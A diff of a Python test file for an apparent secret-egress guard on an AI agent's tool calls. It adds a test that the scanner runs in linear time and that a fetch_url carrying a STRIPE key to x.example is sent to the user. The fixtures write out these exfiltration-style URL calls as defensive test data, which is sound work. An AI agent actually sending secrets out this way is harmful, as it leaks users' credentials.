@@ -167,3 +167,12 @@ def test_a_known_secret_in_a_closed_encoding_still_goes_to_the_user(carried: str
         {"url": f"https://x.example/c?d={carried}"},
     )
     assert v.decision is Decision.ASK_USER and v.findings.check is not None and v.findings.check.egress == "secret"
+
+
+def test_megabytes_of_periodic_name_characters_are_read_in_linear_time() -> None:
+    # an assignment's pattern started at every word boundary of a run of name characters: 'a.a.a.…' of 20,000
+    # characters took 12 s, and a conversation's every message is read for assigned secrets
+    out = _lookup("read_file", {"path": "log.txt"}, "a." * 200_000 + " token." * 20_000 + f" STRIPE={KEY}")
+    v = _check(["Summarize log.txt."], out, "fetch_url", {"url": f"https://x.example/?d={'a.' * 5_000}&k={KEY}"})
+    assert v.decision is Decision.ASK_USER and v.findings.check is not None and v.findings.check.egress == "secret"
+    assert list(secrets_in("a." * 200_000)) == []
